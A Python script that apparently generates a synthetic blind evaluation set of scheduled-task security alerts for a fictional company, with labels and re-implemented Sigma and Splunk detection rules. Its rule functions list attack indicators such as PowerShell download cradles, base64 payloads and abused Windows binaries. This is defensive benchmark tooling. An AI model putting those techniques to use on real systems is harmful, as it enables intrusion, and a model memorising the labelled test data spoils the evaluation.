#!/usr/bin/env python3
"""Second blind evaluation set: two weeks of T1053 alerts at Corvane Precision Components (corvane.example).

Python 3 standard library only, no network, fixed seed: two runs give byte-identical files. Writes five
exports in formats no earlier evaluation set uses, and labels.csv (source_file,record_no,verdict,notes,scenario).
See README.md for the estate, the stories, the rubric and the independence rules.
"""

import base64
import csv
import datetime as dt
import hashlib
import io
import json
import math
import os
import random
import sys
from xml.sax.saxutils import escape

HERE = os.path.dirname(os.path.abspath(__file__))
SEED_MAP = "/work/shared/research/lofp/seed_map.json"
ORG = "corvane"  # salt of every deterministic id
DOMAIN = "CORVANE"
DNS = "corvane.example"
DOMAIN_SID = "S-1-5-21-3188204731-2290516642-1739952710"
BST = dt.timezone(dt.timedelta(hours=1))  # the SOC is in the UK; October 2027 is still summer time
START = dt.datetime(2027, 10, 4, 0, 0, tzinfo=BST)
rng = random.Random(20271004)

F_ZIRC = "blind2_ot_zircolite.json"
F_XML = "blind2_ir_events.xml"
F_AUDIT = "blind2_linux_audit.log"
F_SPLUNK = "blind2_es_notables.json"
F_MDE_PROC = "blind2_mde_hunt_schtasks.csv"
F_MDE_TASK = "blind2_mde_task_events.csv"
MDE_PROC_QUERY = "Scheduled Task Creation Via Schtasks.EXE"


def hid(*parts, n=32):
    return hashlib.sha256("|".join((ORG,) + tuple(str(p) for p in parts)).encode()).hexdigest()[:n]


def guid(*parts):
    h = hid(*parts)
    return "%s-%s-%s-%s-%s" % (h[:8], h[8:12], h[12:16], h[16:20], h[20:32])


def at(day, hh, mm, ss=0, ms=None):
    """Local (BST) time on day `day` (0 = Monday 2027-10-04), returned as aware UTC."""
    t = START + dt.timedelta(days=day, hours=hh, minutes=mm, seconds=ss)
    t += dt.timedelta(microseconds=(ms if ms is not None else rng.randrange(0, 999)) * 1000 + rng.randrange(0, 999))
    return t.astimezone(dt.timezone.utc)


def jitter(t, lo=1, hi=40):
    return t + dt.timedelta(seconds=rng.randrange(lo, hi), microseconds=rng.randrange(0, 999999))


# ---------------------------------------------------------------------------------------------- estate
USERS = {}  # name -> rid


def sid_of(name):
    if name.upper() in ("SYSTEM", "NT AUTHORITY\\SYSTEM"):
        return "S-1-5-18"
    short = name.split("\\")[-1].lower()
    if short not in USERS:
        USERS[short] = 1100 + int(hid("rid", short, n=6), 16) % 8000
    return "%s-%d" % (DOMAIN_SID, USERS[short])


HQ_WS = ["cv-lp-ws%04d" % n for n in range(101, 125)]
WB_WS = ["cv-wb-ws%04d" % n for n in range(201, 209)]
TM_WS = ["cv-tm-ws%04d" % n for n in range(301, 307)]
ENG = ["cv-eng-%02d" % n for n in range(1, 7)]
SHIP = ["cv-wb-ship%02d" % n for n in range(1, 4)]
WORKSTATIONS = HQ_WS + WB_WS + TM_WS + ENG + SHIP
SERVERS = ["cv-lp-dc01", "cv-lp-dc02", "cv-lp-sccm01", "cv-lp-pdq01", "cv-lp-fs01", "cv-lp-sql01",
           "cv-lp-erp-app01", "cv-lp-erp-app02", "cv-lp-print01", "cv-lp-rds01", "cv-lp-rds02"]
PAWS = ["cv-lp-paw01", "cv-lp-paw02"]
OFFICE = set(WORKSTATIONS + SERVERS + PAWS)
OT = ["cv-wb-otjump01", "cv-tm-otjump01", "cv-wb-hmi01", "cv-wb-hmi02", "cv-wb-hmi03", "cv-wb-hmi04",
      "cv-tm-hmi01", "cv-tm-hmi02", "cv-wb-hist01", "cv-wb-mes01", "cv-tm-mes01", "cv-wb-otes01"]
IR_HOSTS = {"cv-lp-ws0117", "cv-lp-fs01", "cv-lp-erp-app01", "cv-eng-03", "cv-lp-ws0105"}
LINUX = {"cv-lx-erpdb01": "rhel9", "cv-lx-mqtt01": "rhel9", "cv-lx-edi01": "rhel8", "cv-lx-salt01": "rhel9",
         "cv-lx-gitlab01": "ubuntu", "cv-lx-grafana01": "ubuntu", "cv-lx-checkmk01": "debian"}
SYSMON_LINUX = {"cv-lx-gitlab01", "cv-lx-grafana01"}  # Ubuntu hosts with Sysmon for Linux into Splunk
OWNER = {h: "u%s" % hid("owner", h, n=4) for h in WORKSTATIONS}
FIRST = ["aoakes", "bfarrell", "cmoreno", "dlindqvist", "eokafor", "fbrennan", "gsato", "hwhitlock", "ikaur",
         "jmercer", "kdoyle", "lpetrov", "mvaughan", "nhale", "oquinn", "pradford", "rsingh", "sbeaumont",
         "tnakamura", "vcosta", "wgreaves", "yabara", "zholm", "abarlow", "bkhan", "cdelaney", "dfoster",
         "egarner", "fmiles", "gpark", "hdunmore", "iwalsh", "jtorres", "kellison", "lmartin", "mnorris",
         "nprice", "ohughes", "pquigley", "rstone", "sward", "tyoung"]
for i, h in enumerate(WORKSTATIONS):
    OWNER[h] = FIRST[i % len(FIRST)]
ADMINS = ["cva-mhughes", "cva-tkowalski", "cva-ptrent", "cva-jadeyemi"]
OT_ADMINS = ["cva-rbell", "cva-snaidoo"]
IP = {}


def ip_of(host):
    if host not in IP:
        n = int(hid("ip", host, n=4), 16)
        if host in OT:
            IP[host] = "172.20.%d.%d" % (10 + n % 4, 20 + n % 200)
        elif host.startswith("cv-wb"):
            IP[host] = "10.41.%d.%d" % (8 + n % 8, 20 + n % 200)
        elif host.startswith("cv-tm"):
            IP[host] = "10.42.%d.%d" % (8 + n % 8, 20 + n % 200)
        else:
            IP[host] = "10.40.%d.%d" % (8 + n % 40, 20 + n % 200)
    return IP[host]


def fqdn(host):
    return "%s.%s" % (host, DNS)


# ---------------------------------------------------------------------------------------------- events
EVENTS = []


def ev(kind, t, host, user, verdict, cause, scenario, **kw):
    e = dict(kind=kind, t=t, host=host, user=user, verdict=verdict, cause=cause, scenario=scenario)
    e.update(kw)
    e["seq"] = len(EVENTS)
    EVENTS.append(e)
    return e


SYSTEM = "NT AUTHORITY\\SYSTEM"
SCHTASKS = "C:\\Windows\\System32\\schtasks.exe"
CMD = "C:\\Windows\\System32\\cmd.exe"
PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
SVCHOST = "C:\\Windows\\System32\\svchost.exe"
SCHEDULE_CMD = "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"
MSIEXEC = "C:\\Windows\\System32\\msiexec.exe"
AT_EXE = "C:\\Windows\\System32\\at.exe"


def split_args(cmd):
    """Windows command-line tokens (quotes grouped, kept as text without the quotes)."""
    out, cur, q, has = [], "", False, False
    i = 0
    while i < len(cmd):
        c = cmd[i]
        if c == '\\' and i + 1 < len(cmd) and cmd[i + 1] == '"':
            cur += '"'
            i += 2
            has = True
            continue
        if c == '"':
            q = not q
            has = True
        elif c in " \t" and not q:
            if has:
                out.append(cur)
            cur, has = "", False
        else:
            cur += c
            has = True
        i += 1
    if has:
        out.append(cur)
    return out


def schtasks_opts(cmd):
    toks = split_args(cmd)
    opts = {}
    i = 1
    while i < len(toks):
        t = toks[i]
        if t.startswith(("/", "-")) and len(t) > 1:
            k = t[1:].lower()
            if i + 1 < len(toks) and not (toks[i + 1].startswith("/") and len(toks[i + 1]) <= 9
                                          and toks[i + 1][1:].isalpha()):
                opts[k] = toks[i + 1]
                i += 2
                continue
            opts[k] = ""
        i += 1
    return opts


def task_xml(uri, command, args="", author="", user_id="S-1-5-18", logon="ServiceAccount", level="LeastPrivilege",
             trigger="<CalendarTrigger><StartBoundary>2027-10-04T03:00:00</StartBoundary><Enabled>true</Enabled>"
                     "<ScheduleByDay><DaysInterval>1</DaysInterval></ScheduleByDay></CalendarTrigger>",
             hidden=False, date="2027-10-04T09:00:00", description="", workdir=""):
    reg = "    <Date>%s</Date>\r\n" % date
    if author:
        reg += "    <Author>%s</Author>\r\n" % escape(author)
    if description:
        reg += "    <Description>%s</Description>\r\n" % escape(description)
    reg += "    <URI>%s</URI>\r\n" % escape(uri)
    principal = "      <UserId>%s</UserId>\r\n" % escape(user_id)
    if logon:
        principal += "      <LogonType>%s</LogonType>\r\n" % logon
    principal += "      <RunLevel>%s</RunLevel>\r\n" % level
    exe = "      <Command>%s</Command>\r\n" % escape(command)
    if args:
        exe += "      <Arguments>%s</Arguments>\r\n" % escape(args)
    if workdir:
        exe += "      <WorkingDirectory>%s</WorkingDirectory>\r\n" % escape(workdir)
    return ('<?xml version="1.0" encoding="UTF-16"?>\r\n'
            '<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">\r\n'
            "  <RegistrationInfo>\r\n%s  </RegistrationInfo>\r\n"
            "  <Triggers>\r\n    %s\r\n  </Triggers>\r\n"
            '  <Principals>\r\n    <Principal id="Author">\r\n%s    </Principal>\r\n  </Principals>\r\n'
            "  <Settings>\r\n    <MultipleInstancesPolicy>IgnoreNew</MultipleInstancesPolicy>\r\n"
            "    <DisallowStartIfOnBatteries>false</DisallowStartIfOnBatteries>\r\n"
            "    <StopIfGoingOnBatteries>false</StopIfGoingOnBatteries>\r\n"
            "    <StartWhenAvailable>true</StartWhenAvailable>\r\n    <Enabled>true</Enabled>\r\n"
            "    <Hidden>%s</Hidden>\r\n    <ExecutionTimeLimit>PT72H</ExecutionTimeLimit>\r\n"
            "    <Priority>7</Priority>\r\n  </Settings>\r\n"
            '  <Actions Context="Author">\r\n    <Exec>\r\n%s    </Exec>\r\n  </Actions>\r\n</Task>'
            % (reg, trigger, principal, "true" if hidden else "false", exe))


TRIG = {
    "daily": lambda t: "<CalendarTrigger><StartBoundary>%s</StartBoundary><Enabled>true</Enabled><ScheduleByDay>"
                       "<DaysInterval>1</DaysInterval></ScheduleByDay></CalendarTrigger>" % t,
    "hourly": lambda t: "<TimeTrigger><Repetition><Interval>PT1H</Interval><StopAtDurationEnd>false</StopAtDurationEnd>"
                        "</Repetition><StartBoundary>%s</StartBoundary><Enabled>true</Enabled></TimeTrigger>" % t,
    "minute": lambda t: "<TimeTrigger><Repetition><Interval>PT15M</Interval><StopAtDurationEnd>false"
                        "</StopAtDurationEnd></Repetition><StartBoundary>%s</StartBoundary><Enabled>true</Enabled>"
                        "</TimeTrigger>" % t,
    "once": lambda t: "<TimeTrigger><StartBoundary>%s</StartBoundary><Enabled>true</Enabled></TimeTrigger>" % t,
    "onlogon": lambda t: "<LogonTrigger><Enabled>true</Enabled></LogonTrigger>",
    "onstart": lambda t: "<BootTrigger><Enabled>true</Enabled></BootTrigger>",
    "weekly": lambda t: "<CalendarTrigger><StartBoundary>%s</StartBoundary><Enabled>true</Enabled><ScheduleByWeek>"
                        "<DaysOfWeek><Sunday /></DaysOfWeek><WeeksInterval>1</WeeksInterval></ScheduleByWeek>"
                        "</CalendarTrigger>" % t,
}


def local_iso(t):
    return t.astimezone(BST).strftime("%Y-%m-%dT%H:%M:%S")


def proc(t, host, user, image, cmd, parent, pcmd, verdict, cause, scenario, integrity=None, cwd=None,
         puser=None, gparent=None):
    if integrity is None:
        integrity = "System" if user == SYSTEM else "High" if user.split("\\")[-1].startswith(("cva-", "svc-")) \
            else "Medium"
    return ev("proc", t, host, user, verdict, cause, scenario, image=image, cmd=cmd, parent=parent, pcmd=pcmd,
              integrity=integrity, cwd=cwd or "C:\\Windows\\system32\\", puser=puser or user,
              gparent=gparent or ("services.exe" if user == SYSTEM else "explorer.exe"),
              pid=1000 + int(hid("pid", host, t, cmd, n=4), 16) % 30000,
              ppid=1000 + int(hid("ppid", host, t, pcmd, n=4), 16) % 30000)


def task(t, host, op, name, command, args, run_as, verdict, cause, scenario, level="LeastPrivilege",
         sched="daily", author=None, by=None, client_pid=None, hidden=False, initiator=None, description=""):
    """A task registration seen by the Task Scheduler of `host` (4698/4702/4699, TaskScheduler 106/140/141)."""
    by = by or run_as
    logon = "ServiceAccount" if run_as in (SYSTEM, "S-1-5-18") else "Password" if "svc-" in run_as \
        else "InteractiveToken"
    uid = "S-1-5-18" if run_as in (SYSTEM, "S-1-5-18") else run_as
    xml = task_xml(name, command, args, author=author if author is not None else by, user_id=uid, logon=logon,
                   level=level, trigger=TRIG[sched](local_iso(t + dt.timedelta(minutes=5))), hidden=hidden,
                   date=local_iso(t), description=description)
    return ev("task", t, host, by, verdict, cause, scenario, op=op, name=name, command=command, args=args,
              run_as=run_as, xml=xml, client_pid=client_pid, initiator=initiator)


def schtasks_create(t, host, user, cmd, parent, pcmd, verdict, cause, scenario, command=None, args="",
                    gparent=None, author=None, register=True, cwd=None):
    """schtasks.exe /create on `host` and (unless remote or refused) the registration it causes."""
    p = proc(t, host, user, SCHTASKS, cmd, parent, pcmd, verdict, cause, scenario, gparent=gparent, cwd=cwd)
    o = schtasks_opts(cmd)
    target = o.get("s", "").lstrip("\\")
    if not register:
        return p
    name = o.get("tn", "")
    name = name if name.startswith("\\") else "\\" + name
    ru = o.get("ru", "")
    run_as = SYSTEM if ru.upper() in ("SYSTEM", "NT AUTHORITY\\SYSTEM") else (ru or user)
    if target and target.lower() != "localhost":
        thost, cpid = target.split(".")[0].lower(), 0
    else:
        thost, cpid = host, p["pid"]
    sched = o.get("sc", "daily").lower()
    if command is None:
        tr = split_args(o.get("tr", ""))
        command, args = (tr[0], " ".join(tr[1:])) if tr else ("", "")
    task(jitter(t, 0, 2), thost, "created", name, command, args, run_as, verdict, cause, scenario,
         level="HighestAvailable" if o.get("rl", "").lower() == "highest" else "LeastPrivilege",
         sched=sched if sched in TRIG else "daily", author=author or user, by=user, client_pid=cpid,
         initiator=p)
    return p


def run(t, host, name, child_image, child_cmd, user, verdict, cause, scenario, result=0):
    """The scheduler starting a task: TaskScheduler 129/200/201 and the child process (Sysmon 1)."""
    e = ev("run", t, host, user, verdict, cause, scenario, name=name, image=child_image, cmd=child_cmd,
           result=result, pid=1000 + int(hid("runpid", host, t, n=4), 16) % 30000)
    proc(jitter(t, 0, 1), host, user, child_image, child_cmd, SVCHOST, SCHEDULE_CMD, verdict, cause, scenario,
         gparent="services.exe", puser=SYSTEM, integrity="System" if user == SYSTEM else "High")
    return e


def lx(t, host, user, verdict, cause, scenario, argv, exe, key, syscall="execve", paths=(), cwd="/root",
       auid=None, uid=None, ppid=None):
    """One Linux audit event: execve (argv) or a file syscall (paths: (name, nametype))."""
    return ev("lx", t, host, user, verdict, cause, scenario, argv=list(argv), exe=exe, key=key, syscall=syscall,
              paths=list(paths), cwd=cwd, auid=auid if auid is not None else user, uid=uid if uid is not None else
              user, ppid=ppid or 1000 + int(hid("lxpp", host, t, n=4), 16) % 60000,
              pid=2000 + int(hid("lxp", host, t, n=4), 16) % 60000)


# ---------------------------------------------------------------------------------------------- rule logic
# The published selections and filters (seed-era SigmaHQ and ESCU, see /work/shared/research/lofp/rules_t1053.json),
# matched without case. Every rule title here is the title the tool puts in its export.
def has(s, *subs):
    s = s.lower()
    return any(x.lower() in s for x in subs)


def has_all(s, *subs):
    s = s.lower()
    return all(x.lower() in s for x in subs)


def is_schtasks(e):
    return e["kind"] == "proc" and e["image"].lower().endswith("\\schtasks.exe")


def sigma_process(e):
    """SigmaHQ process_creation rules (Zircolite over Sysmon 1)."""
    hits = []
    c, user = e["cmd"], e["user"]
    img = e["image"].lower()
    if img.endswith("\\at.exe") and has(c, "interactive"):
        hits.append("Interactive AT Job")
    if not is_schtasks(e):
        return hits
    create = has(c, " /create ")
    if create and not has(user, "AUTHORI", "AUTORI"):
        hits.append("Scheduled Task Creation Via Schtasks.EXE")
    if has_all(c, " /create ", " /sc once ", "\\Temp\\"):
        hits.append("Suspicious Scheduled Task Creation Involving Temp Folder")
    env1 = create and has(c, ":\\Perflogs", ":\\Windows\\Temp", "\\AppData\\Local\\", "\\AppData\\Roaming\\",
                          "\\Users\\Public", "%AppData%", "%Public%")
    env2 = e["pcmd"].lower().endswith("\\svchost.exe -k netsvcs -p -s schedule") and \
        has(c, ":\\Perflogs", ":\\Windows\\Temp", "\\Users\\Public", "%Public%")
    if (env1 or env2) and not has(c, "update_task.xml", "/Create /TN TVInstallRestore /TR"):
        hits.append("Suspicious Schtasks From Env Var Folder")
    if create and has(c, "powershell", "pwsh", "cmd /c ", "cmd /k ", "cmd /r ", "cmd.exe /c ", "cmd.exe /k ",
                      "cmd.exe /r ") and has(c, "C:\\ProgramData\\", "%ProgramData%"):
        hits.append("Schtasks From Suspicious Folders")
    if has(c, "/Create ") and has(c, '/TN "{', "/TN '{", "/TN {") and has(c, '}"', "}'", "} "):
        hits.append("Suspicious Scheduled Task Name As GUID")
    if has(c, "wscript", "vbscript", "cscript", "wmic ", "wmic.exe", "regsvr32.exe", "powershell", "\\AppData\\") \
            and has_all(c, "once", "00:00"):
        hits.append("Uncommon One Time Only Scheduled Task At 00:00")
    kinds = has(c, " ONLOGON ", " ONSTART ", " ONCE ", " ONIDLE ")
    privs = has(c, "NT AUT", " SYSTEM", "HIGHEST")
    if kinds and not privs:
        hits.append("Suspicious Schtasks Schedule Types")
    if kinds and privs:
        hits.append("Suspicious Schtasks Schedule Type With High Privileges")
    if has(c, "/Create "):
        p1 = has(c, "/sc minute ", "/ru system ")
        p2 = has(c, "cmd /c", "cmd /k", "cmd /r", "cmd.exe /c ", "cmd.exe /k ", "cmd.exe /r ")
        unc = has(c, " -decode ", " -enc ", " -w hidden ", " bypass ", " IEX", ".DownloadData", ".DownloadFile",
                  ".DownloadString", "/c start /min ", "FromBase64String", "mshta http", "mshta.exe http")
        a1 = has(c, ":\\ProgramData\\", ":\\Temp\\", ":\\Tmp\\", ":\\Users\\Public\\", ":\\Windows\\Temp\\",
                 "\\AppData\\", "%AppData%", "%Temp%", "%tmp%")
        a2 = has(c, "cscript", "curl", "wscript")
        if (p1 and p2) or unc or (a1 and a2):
            hits.append("Suspicious Command Patterns In Scheduled Task Creation")
    if has(c, " /change ", " /create ") and has(c, "/ru ") and has(c, "NT AUT", " SYSTEM "):
        hits.append("Schtasks Creation Or Modification With SYSTEM Privileges")
    if has(e["parent"], ":\\Temp\\", "\\AppData\\Local\\", "\\AppData\\Roaming\\", "\\Temporary Internet",
           "\\Users\\Public\\", "\\Windows\\Temp\\") and has(c, "/Create ") \
            and not has(c, "update_task.xml", "unattended.ini"):
        hits.append("Scheduled Task Creation From Potential Suspicious Parent Location")
    if e["parent"].lower().endswith(("\\powershell.exe", "\\pwsh.exe")) and \
            has_all(c, "/Create", "powershell.exe -NonI", "/TN Updater /TR") and \
            has(c, "/SC ONLOGON", "/SC DAILY /ST", "/SC ONIDLE", "/SC HOURLY"):
        hits.append("HackTool - Default PowerSploit/Empire Scheduled Task Creation")
    reg = has(c, "/Create") and has(c, "Get-ItemProperty", " gp ") and has(c, "HKCU:", "HKLM:", "registry::", "HKEY_")
    if reg and has(c, "FromBase64String", "encodedcommand"):
        hits.append("Scheduled Task Executing Encoded Payload from Registry")
    return hits


SEC_PATHS = ("\\AppData\\Local\\Temp\\", "\\AppData\\Roaming\\", "\\Users\\Public\\", "\\WINDOWS\\Temp\\", "C:\\Temp\\",
             "\\Desktop\\", "\\Downloads\\", "\\Temporary Internet", "C:\\ProgramData\\", "C:\\Perflogs\\")
SEC_CMDS = ("regsvr32", "rundll32", "cmd.exe</Command>", "cmd</Command>", "<Arguments>/c ", "<Arguments>/k ",
            "<Arguments>/r ", "powershell", "pwsh", "mshta", "wscript", "cscript", "certutil", "bitsadmin",
            "bash.exe", "bash ", "scrcons", "wmic ", "wmic.exe", "forfiles", "scriptrunner", "hh.exe", "hh ")


def sigma_task(e):
    if e["op"] == "created" and has(e["xml"], *SEC_PATHS) and has(e["xml"], *SEC_CMDS):
        return ["Suspicious Scheduled Task Creation"]
    if e["op"] == "updated" and has(e["xml"], *SEC_PATHS) and has(e["xml"], *SEC_CMDS):
        return ["Suspicious Scheduled Task Update"]
    return []


def sigma_run(e):
    hits = []
    if e["image"].lower().endswith(("\\calc.exe", "\\cscript.exe", "\\mshta.exe", "\\mspaint.exe", "\\notepad.exe",
                                    "\\regsvr32.exe", "\\wscript.exe")):
        hits.append("Scheduled Task Executed Uncommon LOLBIN")
    if has(e["image"], "C:\\Windows\\Temp\\", "\\AppData\\Local\\Temp\\", "\\Desktop\\", "\\Downloads\\",
           "\\Users\\Public\\", "C:\\Temp\\"):
        hits.append("Scheduled Task Executed From A Suspicious Location")
    return hits


SVCHOST_LOLBAS = {x.lower() for x in (
    "Regsvcs.exe", "Ftp.exe", "OfflineScannerShell.exe", "Rasautou.exe", "Schtasks.exe", "Xwizard.exe", "Pnputil.exe",
    "Atbroker.exe", "Pcwrun.exe", "Ttdinject.exe", "Mshta.exe", "Bitsadmin.exe", "Certoc.exe", "Ieexec.exe",
    "Microsoft.Workflow.Compiler.exe", "Runscripthelper.exe", "Forfiles.exe", "Msbuild.exe",
    "Register-cimprovider.exe", "Tttracer.exe", "Ie4uinit.exe", "Bash.exe", "Hh.exe", "SettingSyncHost.exe",
    "Cmstp.exe", "Stordiag.exe", "Scriptrunner.exe", "Odbcconf.exe", "Extexport.exe", "Msdt.exe",
    "WorkFolders.exe", "Diskshadow.exe", "Mavinject.exe", "Regasm.exe", "Gpscript.exe", "Regsvr32.exe",
    "Msiexec.exe", "Wuauclt.exe", "Presentationhost.exe", "Wmic.exe", "Runonce.exe",
    "Syncappvpublishingserver.exe", "Verclsid.exe", "Infdefaultinstall.exe", "Installutil.exe", "Netsh.exe",
    "Wab.exe", "Dnscmd.exe", "At.exe", "Pcalua.exe", "Msconfig.exe")}


def escu_process(e):
    """ESCU Endpoint.Processes searches (Splunk ES over Sysmon 1)."""
    hits = []
    name = e["image"].split("\\")[-1].lower()
    c = e["cmd"].lower()
    if name in SVCHOST_LOLBAS and e["parent"].lower().endswith("\\svchost.exe"):
        hits.append("Svchost LOLBAS Execution Process Spawn")
    if name == "at.exe" and "\\\\" in c:
        hits.append("Scheduled Task Creation on Remote Endpoint using At")
    if name != "schtasks.exe":
        return hits
    if "/create " in c and "/ru " in c and "system" in c:
        hits.append("Windows Schtasks Create Run As System")
    if "/rl " in c and " highest " in c:
        hits.append("Windows Scheduled Task with Highest Privileges")
    if "create" in c and " /xml " in c:
        hits.append("Windows Scheduled Task Created Via XML")
    if "/create" in c and "/s" in c:
        hits.append("Schtasks scheduling job on remote system")
    if " /s " in c and "/run" in c:
        hits.append("Scheduled Task Initiation on Remote Endpoint")
    if "/run" in c:
        hits.append("Schtasks Run Task On Demand")
    if "delete" in c or "create" in c:
        hits.append("Scheduled Task Deleted Or Created via CMD")
    if "/create" in c and ("\\users\\public\\" in c or "\\programdata\\" in c or "windows\\temp" in c):
        hits.append("Suspicious Scheduled Task from Public Directory")
    if "shutdown" in c and "/create " in c:
        hits.append("Schtasks used for forcing a reboot")
    return hits


SHELLS = ("powershell.exe", "wscript.exe", "cscript.exe", "cmd.exe", "sh.exe", "ksh.exe", "zsh.exe", "bash.exe",
          "scrcons.exe", "pwsh.exe")


def escu_task(e):
    """ESCU 4698 searches; Security logs reach Splunk from servers only."""
    if e["op"] == "created" and has(e["xml"], *SHELLS):
        return ["WinEvent Scheduled Task Created to Spawn Shell"]
    return []


def escu_linux(e):
    """ESCU auditd searches (Splunk Add-on for Unix and Linux, ENRICHED audit logs)."""
    hits = []
    comm = e["argv"][0].split("/")[-1] if e["argv"] else e["exe"].split("/")[-1]
    daemon = e["uid"] == "daemon"
    if e["syscall"] == "execve" and comm in ("at", "atd") and e["exe"] in ("/usr/bin/at", "/usr/bin/atd") \
            and not daemon:
        hits.append("Linux Auditd At Application Execution")
    if e["syscall"] == "rename" and e["exe"].endswith("/crontab") and not daemon:
        hits.append("Linux Auditd Edit Cron Table Parameter")
    for name, _ in e["paths"]:
        full = name if name.startswith("/") else e.get("parent_dir", "") + "/" + name
        if "/etc/cron" in full or "/var/spool/cron/" in full or "/etc/anacrontab" in full:
            hits.append("Linux Auditd Possible Append Cronjob Entry On Existing Cronjob File")
            break
    line = " ".join(e["argv"])
    if e["syscall"] == "execve" and ("systemctl " in line or "service " in line) and \
            any(w in line for w in ("restart", "reenable", "reload")):
        hits.append("Linux Auditd Service Restarted")
    return hits


def escu_sysmon_linux(e):
    """ESCU Sysmon-for-Linux searches (Ubuntu hosts only): process and file creation."""
    hits = []
    line = " ".join(e["argv"])
    name = e["exe"].split("/")[-1]
    if e["syscall"] == "execve":
        if name == "crontab" and "crontab " in line and " -e" in line:
            hits.append("Linux Edit Cron Table Parameter")
        if name == "crontab" and " -l" in line:
            hits.append("Linux Adding Crontab Using List Parameter")
        if name in ("at", "atd"):
            hits.append("Linux At Application Execution")
        if ("/etc/cron" in line or "/var/spool/cron/" in line) and "echo" in line:
            hits.append("Linux Possible Append Cronjob Entry on Existing Cronjob File")
        if name in ("systemctl", "service") and any(w in line for w in ("restart", "reload", "reenable")):
            hits.append("Linux Service Restarted")
        if name in ("systemctl", "service") and (" start " in line + " " or " enable " in line + " "):
            hits.append("Linux Service Started Or Enabled")
    else:
        for name_, nt in e["paths"]:
            if nt != "CREATE":
                continue
            full = name_ if name_.startswith("/") else e.get("parent_dir", "") + "/" + name_
            if "/etc/cron" in full or "/var/spool/cron/" in full:
                hits.append("Linux Add Files In Known Crontab Directories")
            if "/etc/systemd/system" in full and full.endswith(".service"):
                hits.append("Linux Service File Created In Systemd Directory")
            break
    return hits


# ---------------------------------------------------------------------------------------------- label rubric
# Causes of benign events: install (a software installer), updater (a vendor updater maintaining its own task),
# deploy (software pushed by MECM or PDQ Deploy), mgmt (a management tool running an admin's script package),
# admin (interactive admin work), auto (OS or application automation), pkg (Linux package manager),
# cm (configuration management: Salt). Each rule lists which of its seed notes explain which cause.
APP = {"install", "updater", "deploy", "mgmt", "auto"}
ALL_WIN = APP | {"admin"}
LINUX_ALL = {"admin", "pkg", "cm", "auto", "install"}


def fit(note, causes, cond=None):
    return note, set(causes), cond


NOTE_FIT = {
    "Scheduled Task Creation Via Schtasks.EXE": [fit(1, {"admin", "mgmt"}),
                                                 fit(33, {"install", "updater", "deploy"})],
    "Suspicious Scheduled Task Creation Involving Temp Folder": [fit(1, {"admin", "mgmt"}),
                                                                 fit(33, {"install", "updater", "deploy"})],
    "Uncommon One Time Only Scheduled Task At 00:00": [fit(33, {"install", "updater", "deploy"})],
    "Suspicious Schtasks From Env Var Folder": [
        fit(11, {"install", "deploy"}),
        fit(11, {"updater"}, lambda e: not has(e["cmd"], "\\AppData\\")),
        fit(35, {"install", "updater", "deploy"}, lambda e: has(e["cmd"], "\\AppData\\"))],
    "Suspicious Schtasks Schedule Types": [fit(27, ALL_WIN, lambda e: has(e["cmd"], " onlogon "))],
    "Suspicious Schtasks Schedule Type With High Privileges": [fit(36, {"install", "updater", "deploy"})],
    "Suspicious Command Patterns In Scheduled Task Creation": [
        fit(34, {"install"}, lambda e: has(e["parent"], "\\Temp\\"))],
    "Suspicious Scheduled Task Name As GUID": [fit(31, {"install", "updater", "deploy", "auto"})],
    "Scheduled Task Executed Uncommon LOLBIN": [fit(17, ALL_WIN)],
    "Interactive AT Job": [],
    "HackTool - Default PowerSploit/Empire Scheduled Task Creation": [],
    "Scheduled Task Executing Encoded Payload from Registry": [],
    "Windows Schtasks Create Run As System": [fit(18, {"install", "updater", "deploy", "mgmt"})],
    "Windows Scheduled Task with Highest Privileges": [fit(15, {"install", "updater", "deploy", "mgmt"})],
    "Windows Scheduled Task Created Via XML": [fit(21, {"admin", "mgmt", "deploy"})],
    "Schtasks scheduling job on remote system": [fit(42, {"admin", "mgmt"})],
    "Scheduled Task Initiation on Remote Endpoint": [fit(7, {"admin", "mgmt"})],
    "Scheduled Task Creation on Remote Endpoint using At": [fit(6, {"admin"})],
    "Schtasks Run Task On Demand": [fit(10, {"admin"})],
    "Scheduled Task Deleted Or Created via CMD": [fit(41, {"admin", "mgmt", "deploy"})],
    "Suspicious Scheduled Task from Public Directory": [fit(37, ALL_WIN)],
    "Schtasks used for forcing a reboot": [fit(38, {"admin", "mgmt", "deploy"})],
    "Svchost LOLBAS Execution Process Spawn": [fit(24, APP)],
    "WinEvent Scheduled Task Created to Spawn Shell": [fit(13, APP)],
    "Linux Auditd At Application Execution": [fit(4, LINUX_ALL)],
    "Linux Auditd Edit Cron Table Parameter": [fit(4, LINUX_ALL)],
    "Linux Auditd Possible Append Cronjob Entry On Existing Cronjob File": [fit(14, LINUX_ALL)],
    "Linux Auditd Service Restarted": [fit(5, LINUX_ALL)],
    "Linux Edit Cron Table Parameter": [fit(4, LINUX_ALL)],
    "Linux Adding Crontab Using List Parameter": [fit(4, LINUX_ALL)],
    "Linux At Application Execution": [fit(4, LINUX_ALL)],
    "Linux Possible Append Cronjob Entry on Existing Cronjob File": [fit(14, LINUX_ALL)],
    "Linux Service Restarted": [fit(5, LINUX_ALL)],
    "Linux Service Started Or Enabled": [fit(5, LINUX_ALL)],
    "Linux Add Files In Known Crontab Directories": [fit(2, LINUX_ALL)],
    "Linux Service File Created In Systemd Directory": [fit(16, LINUX_ALL)],
    # rules that carry no seed note
    "Schtasks Creation Or Modification With SYSTEM Privileges": [],
    "Schtasks From Suspicious Folders": [],
    "Scheduled Task Creation From Potential Suspicious Parent Location": [],
    "Suspicious Scheduled Task Creation": [],
    "Suspicious Scheduled Task Update": [],
    "Scheduled Task Executed From A Suspicious Location": [],
}


def carried_notes():
    """rule title -> seed note numbers, from seed_map.json (None when the file is absent)."""
    if not os.path.exists(SEED_MAP):
        return None
    with open(SEED_MAP, encoding="utf-8") as f:
        data = json.load(f)
    out = {}
    for n, s in enumerate(data["sentences"], 1):
        for r in s["rules_t1053"]:
            out.setdefault(r["title"], set()).add(n)
    return out


CARRIED = carried_notes()


def notes_for(rule, e):
    if e["verdict"] != "benign" or rule not in NOTE_FIT:
        return ""
    got = sorted({n for n, causes, cond in NOTE_FIT[rule] if e["cause"] in causes and (cond is None or cond(e))})
    if CARRIED is not None:
        bad = [n for n in got if n not in CARRIED.get(rule, set())]
        if bad:
            sys.exit("rubric error: %s does not carry t1053-%02d" % (rule, bad[0]))
    return ";".join("t1053-%02d" % n for n in got)


